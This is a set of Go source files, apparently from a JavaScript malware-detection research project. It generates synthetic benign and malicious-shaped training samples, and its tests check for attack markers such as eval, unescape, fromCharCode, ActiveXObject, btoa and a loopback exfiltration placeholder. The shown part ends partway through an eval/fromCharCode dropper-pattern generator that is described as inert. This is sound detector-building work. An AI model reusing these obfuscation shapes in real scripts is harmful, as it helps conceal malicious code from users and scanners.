	// crash; always 0 for in-memory jobs, which run exactly once.
	Attempt int `json:"attempt,omitempty"`
}

func (j *job) view() JobView {
	j.mu.Lock()
	defer j.mu.Unlock()
	v := JobView{
		ID:          j.id,
		State:       j.state,
		Scripts:     len(j.sources),
		SubmittedAt: j.submitted,
		Error:       j.errMsg,
	}
	if !j.started.IsZero() {
		t := j.started
		v.StartedAt = &t
	}
	if !j.finished.IsZero() {
		t := j.finished
		v.FinishedAt = &t
	}
	// Running jobs expose the verdicts landed so far, so polling shows
	// progress, not just a state string.
	v.Results = append([]verdictLine(nil), j.results...)
	return v
}

// terminal reports whether the job has finished (done or failed) and when.
func (j *job) terminal() (bool, time.Time) {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.state == JobDone || j.state == JobFailed, j.finished
}

// jobTombstoneCap bounds the evicted-id memory: enough to answer "did this
// job exist?" for any id a polling client plausibly still holds, without
// growing forever.
const jobTombstoneCap = 4096

// jobStore is the bounded in-memory job index. Finished jobs are kept for
// ttl so clients can poll results, then evicted; the total population is
// capped at max, with room made by evicting the oldest finished job early
// when a fresh submission needs it. Evicted ids leave a bounded tombstone
// behind so polls can distinguish "expired" (410 Gone) from "never
// existed" (404).
type jobStore struct {
	mu    sync.Mutex
	jobs  map[string]*job
	order []string // ids in submission order, the eviction scan order
	max   int
	ttl   time.Duration
	met   *metrics

	gone      map[string]struct{}
	goneOrder []string // tombstone insertion order, the FIFO trim order
}

func newJobStore(max int, ttl time.Duration, met *metrics) *jobStore {
	return &jobStore{
		jobs: make(map[string]*job),
		gone: make(map[string]struct{}),
		max:  max, ttl: ttl, met: met,
	}
}

// newJobID returns a 16-hex-char random id.
func newJobID() string {
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		// crypto/rand failing means the platform is broken; fall back to a
		// time-derived id rather than refusing service.
		return hex.EncodeToString([]byte(time.Now().Format("150405.000000000")))[:16]
	}
	return hex.EncodeToString(b[:])
}

// put registers a new job, evicting expired (and, under population
// pressure, the oldest finished) jobs first. It reports false when the
// store is full of unfinished jobs — the backpressure signal POST /jobs
// turns into a 429.
func (s *jobStore) put(j *job) bool {
	now := time.Now()
	s.mu.Lock()
	defer s.mu.Unlock()
	s.evictLocked(now, false)
	if len(s.jobs) >= s.max {
		s.evictLocked(now, true)
	}
	if len(s.jobs) >= s.max {
		return false
	}
	s.jobs[j.id] = j
	s.order = append(s.order, j.id)
	return true
}

// remove deletes a job that never made it onto the queue; its order entry
// is swept lazily by the next eviction pass.
func (s *jobStore) remove(id string) {
	s.mu.Lock()
	delete(s.jobs, id)
	s.mu.Unlock()
}

// get looks a job up, running TTL eviction on the way so polls observe
// expiry without a background janitor.
func (s *jobStore) get(id string) (*job, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.evictLocked(time.Now(), false)
	j, ok := s.jobs[id]
	return j, ok
}

// forgotten reports whether id was a real job that has since been evicted —
// the signal behind answering 410 Gone rather than 404.
func (s *jobStore) forgotten(id string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	_, ok := s.gone[id]
	return ok
}

// evictLocked removes finished jobs older than ttl; when force is set it
// additionally removes the single oldest finished job regardless of age,
// making room for a new submission. Callers hold s.mu.
func (s *jobStore) evictLocked(now time.Time, force bool) {
	kept := s.order[:0]
	forced := false
	for _, id := range s.order {
		j, ok := s.jobs[id]
		if !ok {
			continue
		}
		done, finished := j.terminal()
		expired := done && now.Sub(finished) > s.ttl
		if expired || (force && done && !forced) {
			forced = forced || !expired
			delete(s.jobs, id)
			s.tombstoneLocked(id)
			s.met.jobs["evicted"].Inc()
			continue
		}
		kept = append(kept, id)
	}
	s.order = kept
}

// tombstoneLocked remembers an evicted id, trimming the oldest tombstones
// past the cap. Callers hold s.mu.
func (s *jobStore) tombstoneLocked(id string) {
	if _, ok := s.gone[id]; ok {
		return
	}
	s.gone[id] = struct{}{}
	s.goneOrder = append(s.goneOrder, id)
	for len(s.goneOrder) > jobTombstoneCap {
		delete(s.gone, s.goneOrder[0])
		s.goneOrder = s.goneOrder[1:]
	}
}
