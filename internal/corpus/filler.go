package corpus

import (
	"fmt"
	"math/rand"
	"strings"
)

// fillerSnippets emits class-neutral helper code appended to samples of
// both classes. Real web pages and real droppers alike carry generic
// utility code (polyfills, helpers, boilerplate), and this shared material
// keeps the two populations from being separable by surface structure
// alone — the detectors must find the *semantic* signal, as they must on
// the paper's real corpora.
func fillerSnippets(rng *rand.Rand, n int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		switch rng.Intn(8) {
		case 0:
			name := ident(rng)
			fmt.Fprintf(&b, "function %s(a, b) {\n", name)
			fmt.Fprintf(&b, "  if (a === undefined) { return b; }\n")
			fmt.Fprintf(&b, "  return a;\n")
			fmt.Fprintf(&b, "}\n")
		case 1:
			name := ident(rng)
			fmt.Fprintf(&b, "function %s(list, fn) {\n", name)
			fmt.Fprintf(&b, "  var out = [];\n")
			fmt.Fprintf(&b, "  for (var i = 0; i < list.length; i++) {\n")
			fmt.Fprintf(&b, "    out.push(fn(list[i], i));\n")
			fmt.Fprintf(&b, "  }\n")
			fmt.Fprintf(&b, "  return out;\n")
			fmt.Fprintf(&b, "}\n")
		case 2:
			name := ident(rng)
			fmt.Fprintf(&b, "function %s(s) {\n", name)
			fmt.Fprintf(&b, "  return s.replace(/^\\s+|\\s+$/g, \"\");\n")
			fmt.Fprintf(&b, "}\n")
		case 3:
			name := noun(rng) + "Cfg"
			fmt.Fprintf(&b, "var %s = { retries: %d, timeout: %d, debug: %v };\n",
				name, 1+rng.Intn(5), 500+rng.Intn(5000), rng.Intn(2) == 0)
		case 4:
			name := ident(rng)
			fmt.Fprintf(&b, "function %s(obj) {\n", name)
			fmt.Fprintf(&b, "  var keys = [];\n")
			fmt.Fprintf(&b, "  for (var k in obj) { keys.push(k); }\n")
			fmt.Fprintf(&b, "  return keys;\n")
			fmt.Fprintf(&b, "}\n")
		case 5:
			name := ident(rng)
			lo, hi := rng.Intn(10), 50+rng.Intn(100)
			fmt.Fprintf(&b, "function %s(v) {\n", name)
			fmt.Fprintf(&b, "  if (v < %d) { return %d; }\n", lo, lo)
			fmt.Fprintf(&b, "  if (v > %d) { return %d; }\n", hi, hi)
			fmt.Fprintf(&b, "  return v;\n")
			fmt.Fprintf(&b, "}\n")
		case 6:
			name := ident(rng)
			fmt.Fprintf(&b, "var %sCount = 0;\n", name)
			fmt.Fprintf(&b, "function %s() {\n", name)
			fmt.Fprintf(&b, "  %sCount++;\n", name)
			fmt.Fprintf(&b, "  return %sCount;\n", name)
			fmt.Fprintf(&b, "}\n")
		default:
			name := ident(rng)
			fmt.Fprintf(&b, "function %s(x) {\n", name)
			fmt.Fprintf(&b, "  try {\n")
			fmt.Fprintf(&b, "    return JSON.parse(x);\n")
			fmt.Fprintf(&b, "  } catch (e) {\n")
			fmt.Fprintf(&b, "    return null;\n")
			fmt.Fprintf(&b, "  }\n")
			fmt.Fprintf(&b, "}\n")
		}
	}
	return b.String()
}
