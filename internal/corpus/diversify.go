package corpus

import (
	"math/rand"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/js/printer"
)

// diversify applies semantics-preserving structural polymorphism to a
// generated sample: top-level function declarations move to random
// positions (hoisting makes this a no-op at runtime), and a fraction of
// samples gets wrapped in an IIFE with its declarations lifted alongside —
// the two dominant structural presentation differences between otherwise
// similar real-world scripts. This keeps every family from having a single
// rigid AST skeleton that n-gram features could fingerprint.
func diversify(src string, rng *rand.Rand) string {
	prog, err := parser.Parse(src)
	if err != nil {
		return src
	}
	// Partition: function declarations are order-independent; everything
	// else keeps its relative order.
	var funcs []ast.Statement
	var rest []ast.Statement
	for _, s := range prog.Body {
		if _, ok := s.(*ast.FunctionDeclaration); ok {
			funcs = append(funcs, s)
		} else {
			rest = append(rest, s)
		}
	}
	rng.Shuffle(len(funcs), func(i, j int) { funcs[i], funcs[j] = funcs[j], funcs[i] })

	// Interleave the shuffled functions at random positions among the rest.
	body := make([]ast.Statement, 0, len(prog.Body))
	body = append(body, rest...)
	for _, f := range funcs {
		pos := 0
		if len(body) > 0 {
			pos = rng.Intn(len(body) + 1)
		}
		body = append(body[:pos], append([]ast.Statement{f}, body[pos:]...)...)
	}
	prog.Body = body

	// A third of samples ship as an IIFE module, a common real-world shape.
	if rng.Intn(3) == 0 {
		prog.Body = []ast.Statement{
			&ast.ExpressionStatement{Expression: &ast.CallExpression{
				Callee: &ast.FunctionExpression{
					Body: &ast.BlockStatement{Body: prog.Body},
				},
			}},
		}
	}
	return printer.Print(prog)
}
