package corpus

import (
	"fmt"
	"math/rand"
	"strings"
)

// benignGenerators returns the six benign program families.
func benignGenerators() []generator {
	return []generator{
		{family: "ui-widget", fn: genUIWidget},
		{family: "form-validation", fn: genFormValidation},
		{family: "utility-library", fn: genUtilityLibrary},
		{family: "carousel", fn: genCarousel},
		{family: "data-table", fn: genDataTable},
		{family: "event-tracking", fn: genEventTracking},
	}
}

// genUIWidget emits a media-player-style widget initializer: an options
// object, a setup function reading configuration, and handlers — the kind of
// script the paper's Listing 1 example comes from.
func genUIWidget(rng *rand.Rand) string {
	var b strings.Builder
	opts := uniqueNouns(rng, 4)
	widget := ident(rng)
	fmt.Fprintf(&b, "var %s = {\n", opts[0])
	fmt.Fprintf(&b, "  controls: %v,\n", rng.Intn(2) == 0)
	fmt.Fprintf(&b, "  autoplay: %v,\n", rng.Intn(2) == 0)
	fmt.Fprintf(&b, "  volume: 0.%d,\n", 1+rng.Intn(9))
	fmt.Fprintf(&b, "  theme: \"%s\",\n", []string{"light", "dark", "auto"}[rng.Intn(3)])
	fmt.Fprintf(&b, "  %s: %d\n", opts[1], 100+rng.Intn(900))
	fmt.Fprintf(&b, "};\n")

	fmt.Fprintf(&b, "function %s(el, opts) {\n", widget)
	fmt.Fprintf(&b, "  var %s = opts.%s || %d;\n", opts[2], opts[1], 200+rng.Intn(400))
	fmt.Fprintf(&b, "  var timeZoneMinutes = new Date().getTimezoneOffset();\n")
	fmt.Fprintf(&b, "  if (opts.controls) {\n")
	fmt.Fprintf(&b, "    el.setAttribute(\"data-controls\", \"yes\");\n")
	fmt.Fprintf(&b, "    el.style.width = %s + \"px\";\n", opts[2])
	fmt.Fprintf(&b, "  } else {\n")
	fmt.Fprintf(&b, "    el.removeAttribute(\"data-controls\");\n")
	fmt.Fprintf(&b, "  }\n")
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "  if (timeZoneMinutes > 0) {\n")
		fmt.Fprintf(&b, "    el.setAttribute(\"tz\", timeZoneMinutes);\n")
		fmt.Fprintf(&b, "  }\n")
	}
	fmt.Fprintf(&b, "  for (var i = 0; i < el.children.length; i++) {\n")
	fmt.Fprintf(&b, "    el.children[i].className = \"%s-item\";\n", opts[3])
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "  return el;\n")
	fmt.Fprintf(&b, "}\n")

	hnd := ident(rng)
	fmt.Fprintf(&b, "function %s(event) {\n", hnd)
	fmt.Fprintf(&b, "  var target = event.target;\n")
	fmt.Fprintf(&b, "  if (target && target.dataset) {\n")
	fmt.Fprintf(&b, "    %s(target, %s);\n", widget, opts[0])
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "}\n")
	fmt.Fprintf(&b, "document.addEventListener(\"click\", %s);\n", hnd)
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "window.addEventListener(\"resize\", function() {\n")
		fmt.Fprintf(&b, "  var els = document.querySelectorAll(\".%s\");\n", opts[3])
		fmt.Fprintf(&b, "  for (var j = 0; j < els.length; j++) { %s(els[j], %s); }\n", widget, opts[0])
		fmt.Fprintf(&b, "});\n")
	}
	return b.String()
}

// genFormValidation emits field validators and a submit handler.
func genFormValidation(rng *rand.Rand) string {
	var b strings.Builder
	fields := uniqueNouns(rng, 3)
	minLen := 2 + rng.Intn(6)
	fmt.Fprintf(&b, "var rules = {\n")
	fmt.Fprintf(&b, "  %s: { required: true, minLength: %d },\n", fields[0], minLen)
	fmt.Fprintf(&b, "  %s: { required: %v, pattern: /^[a-z0-9]+$/i },\n", fields[1], rng.Intn(2) == 0)
	fmt.Fprintf(&b, "  %s: { required: false, maxLength: %d }\n", fields[2], 20+rng.Intn(80))
	fmt.Fprintf(&b, "};\n")

	fmt.Fprintf(&b, "function validateField(name, value) {\n")
	fmt.Fprintf(&b, "  var rule = rules[name];\n")
	fmt.Fprintf(&b, "  if (!rule) { return true; }\n")
	fmt.Fprintf(&b, "  if (rule.required && !value) { return false; }\n")
	fmt.Fprintf(&b, "  if (rule.minLength && value.length < rule.minLength) { return false; }\n")
	fmt.Fprintf(&b, "  if (rule.maxLength && value.length > rule.maxLength) { return false; }\n")
	fmt.Fprintf(&b, "  if (rule.pattern && !rule.pattern.test(value)) { return false; }\n")
	fmt.Fprintf(&b, "  return true;\n")
	fmt.Fprintf(&b, "}\n")

	fmt.Fprintf(&b, "function validateForm(form) {\n")
	fmt.Fprintf(&b, "  var errors = [];\n")
	fmt.Fprintf(&b, "  for (var name in rules) {\n")
	fmt.Fprintf(&b, "    var field = form.elements[name];\n")
	fmt.Fprintf(&b, "    if (field && !validateField(name, field.value)) {\n")
	fmt.Fprintf(&b, "      errors.push(name);\n")
	fmt.Fprintf(&b, "      field.className = \"error\";\n")
	fmt.Fprintf(&b, "    }\n")
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "  return errors;\n")
	fmt.Fprintf(&b, "}\n")

	fmt.Fprintf(&b, "function onSubmit(event) {\n")
	fmt.Fprintf(&b, "  var form = event.target;\n")
	fmt.Fprintf(&b, "  var errors = validateForm(form);\n")
	fmt.Fprintf(&b, "  if (errors.length > 0) {\n")
	fmt.Fprintf(&b, "    event.preventDefault();\n")
	fmt.Fprintf(&b, "    var message = \"Please fix: \" + errors.join(\", \");\n")
	fmt.Fprintf(&b, "    document.getElementById(\"form-errors\").textContent = message;\n")
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "  return errors.length === 0;\n")
	fmt.Fprintf(&b, "}\n")
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "document.getElementById(\"signup\").addEventListener(\"submit\", onSubmit);\n")
	} else {
		fmt.Fprintf(&b, "var formEl = document.forms[0];\n")
		fmt.Fprintf(&b, "if (formEl) { formEl.onsubmit = onSubmit; }\n")
	}
	return b.String()
}

// genUtilityLibrary emits small string/array helpers like those that fill
// the 150k JavaScript Dataset.
func genUtilityLibrary(rng *rand.Rand) string {
	var b strings.Builder
	ns := noun(rng) + "Util"
	fmt.Fprintf(&b, "var %s = {};\n", ns)

	fmt.Fprintf(&b, "%s.capitalize = function(text) {\n", ns)
	fmt.Fprintf(&b, "  if (!text) { return \"\"; }\n")
	fmt.Fprintf(&b, "  return text.charAt(0).toUpperCase() + text.slice(1);\n")
	fmt.Fprintf(&b, "};\n")

	fmt.Fprintf(&b, "%s.chunk = function(items, size) {\n", ns)
	fmt.Fprintf(&b, "  var out = [];\n")
	fmt.Fprintf(&b, "  for (var i = 0; i < items.length; i += size) {\n")
	fmt.Fprintf(&b, "    out.push(items.slice(i, i + size));\n")
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "  return out;\n")
	fmt.Fprintf(&b, "};\n")

	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "%s.debounce = function(fn, wait) {\n", ns)
		fmt.Fprintf(&b, "  var timer = null;\n")
		fmt.Fprintf(&b, "  return function() {\n")
		fmt.Fprintf(&b, "    var args = arguments;\n")
		fmt.Fprintf(&b, "    if (timer) { clearTimeout(timer); }\n")
		fmt.Fprintf(&b, "    timer = setTimeout(function() { fn.apply(null, args); }, wait);\n")
		fmt.Fprintf(&b, "  };\n")
		fmt.Fprintf(&b, "};\n")
	}

	fmt.Fprintf(&b, "%s.formatDate = function(date) {\n", ns)
	fmt.Fprintf(&b, "  var y = date.getFullYear();\n")
	fmt.Fprintf(&b, "  var m = date.getMonth() + 1;\n")
	fmt.Fprintf(&b, "  var d = date.getDate();\n")
	fmt.Fprintf(&b, "  if (m < 10) { m = \"0\" + m; }\n")
	fmt.Fprintf(&b, "  if (d < 10) { d = \"0\" + d; }\n")
	fmt.Fprintf(&b, "  return y + \"-\" + m + \"-\" + d;\n")
	fmt.Fprintf(&b, "};\n")

	extra := 1 + rng.Intn(3)
	for i := 0; i < extra; i++ {
		fn := verbWords[rng.Intn(len(verbWords))]
		fmt.Fprintf(&b, "%s.%s%d = function(value, fallback) {\n", ns, fn, i)
		fmt.Fprintf(&b, "  if (value === null || value === undefined) { return fallback; }\n")
		switch rng.Intn(3) {
		case 0:
			fmt.Fprintf(&b, "  return String(value).trim();\n")
		case 1:
			fmt.Fprintf(&b, "  return Number(value) || fallback;\n")
		default:
			fmt.Fprintf(&b, "  return value;\n")
		}
		fmt.Fprintf(&b, "};\n")
	}
	return b.String()
}

// genCarousel emits a rotating-slide component with timers.
func genCarousel(rng *rand.Rand) string {
	var b strings.Builder
	interval := 2000 + rng.Intn(6000)
	fmt.Fprintf(&b, "function Carousel(container, slides) {\n")
	fmt.Fprintf(&b, "  this.container = container;\n")
	fmt.Fprintf(&b, "  this.slides = slides;\n")
	fmt.Fprintf(&b, "  this.current = 0;\n")
	fmt.Fprintf(&b, "  this.interval = %d;\n", interval)
	fmt.Fprintf(&b, "  this.timer = null;\n")
	fmt.Fprintf(&b, "}\n")

	fmt.Fprintf(&b, "Carousel.prototype.show = function(index) {\n")
	fmt.Fprintf(&b, "  for (var i = 0; i < this.slides.length; i++) {\n")
	fmt.Fprintf(&b, "    this.slides[i].style.display = i === index ? \"block\" : \"none\";\n")
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "  this.current = index;\n")
	fmt.Fprintf(&b, "};\n")

	fmt.Fprintf(&b, "Carousel.prototype.next = function() {\n")
	fmt.Fprintf(&b, "  var nextIndex = (this.current + 1) %% this.slides.length;\n")
	fmt.Fprintf(&b, "  this.show(nextIndex);\n")
	fmt.Fprintf(&b, "};\n")

	fmt.Fprintf(&b, "Carousel.prototype.start = function() {\n")
	fmt.Fprintf(&b, "  var self = this;\n")
	fmt.Fprintf(&b, "  this.timer = setInterval(function() { self.next(); }, this.interval);\n")
	fmt.Fprintf(&b, "};\n")

	fmt.Fprintf(&b, "Carousel.prototype.stop = function() {\n")
	fmt.Fprintf(&b, "  if (this.timer) { clearInterval(this.timer); this.timer = null; }\n")
	fmt.Fprintf(&b, "};\n")

	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "var gallery = new Carousel(document.getElementById(\"gallery\"),\n")
		fmt.Fprintf(&b, "  document.querySelectorAll(\".slide\"));\n")
		fmt.Fprintf(&b, "gallery.start();\n")
		fmt.Fprintf(&b, "document.getElementById(\"pause\").onclick = function() { gallery.stop(); };\n")
	} else {
		fmt.Fprintf(&b, "var banners = new Carousel(document.querySelector(\".banner\"),\n")
		fmt.Fprintf(&b, "  document.querySelectorAll(\".banner-item\"));\n")
		fmt.Fprintf(&b, "banners.show(0);\n")
		fmt.Fprintf(&b, "window.addEventListener(\"load\", function() { banners.start(); });\n")
	}
	return b.String()
}

// genDataTable emits sorting/filtering logic over row data.
func genDataTable(rng *rand.Rand) string {
	var b strings.Builder
	cols := uniqueNouns(rng, 3)
	rows := 3 + rng.Intn(4)
	fmt.Fprintf(&b, "var tableData = [\n")
	for i := 0; i < rows; i++ {
		fmt.Fprintf(&b, "  { %s: \"%s%d\", %s: %d, %s: %v }",
			cols[0], cols[0], i, cols[1], rng.Intn(1000), cols[2], rng.Intn(2) == 0)
		if i < rows-1 {
			fmt.Fprintf(&b, ",")
		}
		fmt.Fprintf(&b, "\n")
	}
	fmt.Fprintf(&b, "];\n")

	fmt.Fprintf(&b, "function sortBy(data, key, ascending) {\n")
	fmt.Fprintf(&b, "  var copy = data.slice();\n")
	fmt.Fprintf(&b, "  copy.sort(function(a, b) {\n")
	fmt.Fprintf(&b, "    if (a[key] < b[key]) { return ascending ? -1 : 1; }\n")
	fmt.Fprintf(&b, "    if (a[key] > b[key]) { return ascending ? 1 : -1; }\n")
	fmt.Fprintf(&b, "    return 0;\n")
	fmt.Fprintf(&b, "  });\n")
	fmt.Fprintf(&b, "  return copy;\n")
	fmt.Fprintf(&b, "}\n")

	fmt.Fprintf(&b, "function renderTable(data) {\n")
	fmt.Fprintf(&b, "  var tbody = document.querySelector(\"#data tbody\");\n")
	fmt.Fprintf(&b, "  var html = \"\";\n")
	fmt.Fprintf(&b, "  for (var i = 0; i < data.length; i++) {\n")
	fmt.Fprintf(&b, "    var row = data[i];\n")
	fmt.Fprintf(&b, "    html += \"<tr><td>\" + row.%s + \"</td><td>\" + row.%s + \"</td></tr>\";\n", cols[0], cols[1])
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "  tbody.innerHTML = html;\n")
	fmt.Fprintf(&b, "}\n")

	fmt.Fprintf(&b, "function filterRows(data, query) {\n")
	fmt.Fprintf(&b, "  var out = [];\n")
	fmt.Fprintf(&b, "  for (var i = 0; i < data.length; i++) {\n")
	fmt.Fprintf(&b, "    if (String(data[i].%s).indexOf(query) >= 0) { out.push(data[i]); }\n", cols[0])
	fmt.Fprintf(&b, "  }\n")
	fmt.Fprintf(&b, "  return out;\n")
	fmt.Fprintf(&b, "}\n")

	fmt.Fprintf(&b, "renderTable(sortBy(tableData, \"%s\", true));\n", cols[1])
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "document.getElementById(\"search\").oninput = function(e) {\n")
		fmt.Fprintf(&b, "  renderTable(filterRows(tableData, e.target.value));\n")
		fmt.Fprintf(&b, "};\n")
	}
	return b.String()
}

// genEventTracking emits a consent-respecting analytics snippet: batching
// page-view events and flushing them on a timer.
func genEventTracking(rng *rand.Rand) string {
	var b strings.Builder
	batch := 5 + rng.Intn(15)
	fmt.Fprintf(&b, "var analyticsQueue = [];\n")
	fmt.Fprintf(&b, "var batchSize = %d;\n", batch)
	fmt.Fprintf(&b, "var consentGiven = false;\n")

	fmt.Fprintf(&b, "function recordEvent(category, action) {\n")
	fmt.Fprintf(&b, "  if (!consentGiven) { return; }\n")
	fmt.Fprintf(&b, "  analyticsQueue.push({\n")
	fmt.Fprintf(&b, "    category: category,\n")
	fmt.Fprintf(&b, "    action: action,\n")
	fmt.Fprintf(&b, "    page: location.pathname,\n")
	fmt.Fprintf(&b, "    when: Date.now()\n")
	fmt.Fprintf(&b, "  });\n")
	fmt.Fprintf(&b, "  if (analyticsQueue.length >= batchSize) { flushEvents(); }\n")
	fmt.Fprintf(&b, "}\n")

	fmt.Fprintf(&b, "function flushEvents() {\n")
	fmt.Fprintf(&b, "  if (analyticsQueue.length === 0) { return; }\n")
	fmt.Fprintf(&b, "  var payload = JSON.stringify(analyticsQueue);\n")
	fmt.Fprintf(&b, "  var xhr = new XMLHttpRequest();\n")
	fmt.Fprintf(&b, "  xhr.open(\"POST\", \"/analytics/collect\", true);\n")
	fmt.Fprintf(&b, "  xhr.setRequestHeader(\"Content-Type\", \"application/json\");\n")
	fmt.Fprintf(&b, "  xhr.send(payload);\n")
	fmt.Fprintf(&b, "  analyticsQueue = [];\n")
	fmt.Fprintf(&b, "}\n")

	fmt.Fprintf(&b, "function enableTracking() {\n")
	fmt.Fprintf(&b, "  consentGiven = true;\n")
	fmt.Fprintf(&b, "  recordEvent(\"page\", \"view\");\n")
	fmt.Fprintf(&b, "}\n")

	fmt.Fprintf(&b, "document.getElementById(\"consent-accept\").onclick = enableTracking;\n")
	fmt.Fprintf(&b, "setInterval(flushEvents, %d);\n", 10000+rng.Intn(20000))
	if rng.Intn(2) == 0 {
		fmt.Fprintf(&b, "window.addEventListener(\"beforeunload\", flushEvents);\n")
	}
	return b.String()
}
