package corpus

import (
	"strings"
	"testing"

	"jsrevealer/internal/js/parser"
)

func TestGenerateCountsAndLabels(t *testing.T) {
	samples := Generate(Config{Benign: 24, Malicious: 18, Seed: 1})
	if len(samples) != 42 {
		t.Fatalf("generated %d samples, want 42", len(samples))
	}
	var benign, malicious int
	for _, s := range samples {
		if s.Malicious {
			malicious++
		} else {
			benign++
		}
	}
	if benign != 24 || malicious != 18 {
		t.Errorf("benign/malicious = %d/%d", benign, malicious)
	}
}

func TestDeterministicForSeed(t *testing.T) {
	a := Generate(Config{Benign: 12, Malicious: 12, Seed: 9})
	b := Generate(Config{Benign: 12, Malicious: 12, Seed: 9})
	for i := range a {
		if a[i].Source != b[i].Source || a[i].Family != b[i].Family {
			t.Fatalf("sample %d differs between runs", i)
		}
	}
	c := Generate(Config{Benign: 12, Malicious: 12, Seed: 10})
	same := 0
	for i := range a {
		if a[i].Source == c[i].Source {
			same++
		}
	}
	if same == len(a) {
		t.Error("different seeds produced identical corpora")
	}
}

func TestEverySampleParses(t *testing.T) {
	samples := Generate(Config{Benign: 48, Malicious: 48, Seed: 2})
	for i, s := range samples {
		if _, err := parser.Parse(s.Source); err != nil {
			t.Errorf("sample %d (%s, transform=%q) does not parse: %v",
				i, s.Family, s.Transform, err)
		}
	}
}

func TestFamilyCoverage(t *testing.T) {
	samples := Generate(Config{Benign: 30, Malicious: 30, Seed: 3})
	counts := FamilyCounts(samples)
	if len(counts) != 12 {
		t.Errorf("families = %d, want 12 (6 benign + 6 malicious)", len(counts))
	}
	for fam, n := range counts {
		if n != 5 {
			t.Errorf("family %s has %d samples, want 5 (round-robin)", fam, n)
		}
	}
}

func TestWildTransformDistribution(t *testing.T) {
	samples := Generate(Config{Benign: 200, Malicious: 200, Seed: 4})
	transformed := map[bool]int{}
	minified := map[bool]int{}
	for _, s := range samples {
		if s.Transform != "" {
			transformed[s.Malicious]++
		}
		if s.Transform == "minify" {
			minified[s.Malicious]++
		}
	}
	// Benign: ~71% transformed (60% minify). Malicious: ~70% transformed.
	if transformed[false] < 100 || transformed[false] > 180 {
		t.Errorf("benign transformed = %d/200, outside expected band", transformed[false])
	}
	if minified[false] < 80 {
		t.Errorf("benign minified = %d/200, want majority", minified[false])
	}
	if transformed[true] < 100 {
		t.Errorf("malicious transformed = %d/200", transformed[true])
	}
}

func TestPristineDisablesTransforms(t *testing.T) {
	samples := Generate(Config{Benign: 30, Malicious: 30, Seed: 5, Pristine: true})
	for _, s := range samples {
		if s.Transform != "" {
			t.Fatalf("pristine corpus has transform %q", s.Transform)
		}
	}
}

func TestMaliciousSamplesCarrySuspiciousAPIs(t *testing.T) {
	samples := Generate(Config{Benign: 0, Malicious: 60, Seed: 6, Pristine: true})
	suspicious := 0
	for _, s := range samples {
		if strings.Contains(s.Source, "eval") ||
			strings.Contains(s.Source, "unescape") ||
			strings.Contains(s.Source, "fromCharCode") ||
			strings.Contains(s.Source, "ActiveXObject") ||
			strings.Contains(s.Source, "127.0.0.1") ||
			strings.Contains(s.Source, "btoa") {
			suspicious++
		}
	}
	if suspicious < 50 {
		t.Errorf("only %d/60 malicious samples carry attack markers", suspicious)
	}
}

func TestBenignSamplesAvoidExfiltrationHosts(t *testing.T) {
	samples := Generate(Config{Benign: 60, Malicious: 0, Seed: 7, Pristine: true})
	for _, s := range samples {
		if strings.Contains(s.Source, "127.0.0.1") {
			t.Errorf("benign %s sample contains the exfiltration placeholder host", s.Family)
		}
	}
}

func TestDiversifyPreservesParseability(t *testing.T) {
	samples := Generate(Config{Benign: 20, Malicious: 20, Seed: 8, Pristine: true})
	for _, s := range samples {
		if _, err := parser.Parse(s.Source); err != nil {
			t.Fatalf("diversified %s sample broken: %v", s.Family, err)
		}
	}
}

func TestSamplesVaryWithinFamily(t *testing.T) {
	samples := Generate(Config{Benign: 24, Malicious: 0, Seed: 9, Pristine: true})
	byFamily := make(map[string][]string)
	for _, s := range samples {
		byFamily[s.Family] = append(byFamily[s.Family], s.Source)
	}
	for fam, sources := range byFamily {
		for i := 1; i < len(sources); i++ {
			if sources[i] == sources[0] {
				t.Errorf("family %s emitted identical samples", fam)
			}
		}
	}
}
