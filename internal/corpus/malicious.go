package corpus

import (
	"fmt"
	"math/rand"
	"strings"
)

// maliciousGenerators returns the six malicious program families, each
// mimicking an attack class from the paper's background section. All
// payloads are inert placeholders (random hex, loopback hosts): the
// generators exist to give the detectors a malicious *code shape* to learn,
// not to produce working malware.
func maliciousGenerators() []generator {
	return []generator{
		{family: "eval-decoder", fn: genEvalDecoder},
		{family: "driveby-staging", fn: genDriveByStaging},
		{family: "cryptojacker", fn: genCryptojacker},
		{family: "web-skimmer", fn: genWebSkimmer},
		{family: "redirector", fn: genRedirector},
		{family: "fingerprint-exfil", fn: genFingerprintExfil},
	}
}

// genEvalDecoder emits the classic dropper pattern: a payload string is
// assembled from character codes and fed to eval/unescape.
func genEvalDecoder(rng *rand.Rand) string {
	var b strings.Builder
	key := 1 + rng.Intn(60)
	n := 20 + rng.Intn(40)
	codes := make([]string, n)
	for i := range codes {
		codes[i] = fmt.Sprintf("%d", 40+rng.Intn(80)+key)
	}
	fmt.Fprintf(&b, "var k = %d;\n", key)
	fmt.Fprintf(&b, "var cs = [%s];\n", strings.Join(codes, ","))
	fmt.Fprintf(&b, "var payload = \"\";\n")
	switch rng.Intn(3) {
	case 0:
		fmt.Fprintf(&b, "for (var i = 0; i < cs.length; i++) {\n")
		fmt.Fprintf(&b, "  payload += String.fromCharCode(cs[i] - k);\n")
		fmt.Fprintf(&b, "}\n")
	case 1:
		fmt.Fprintf(&b, "var i = 0;\n")
		fmt.Fprintf(&b, "while (i < cs.length) {\n")
		fmt.Fprintf(&b, "  payload = payload + String.fromCharCode(cs[i] - k);\n")
		fmt.Fprintf(&b, "  i++;\n")
		fmt.Fprintf(&b, "}\n")
	default:
		fmt.Fprintf(&b, "function dec(arr, off) {\n")
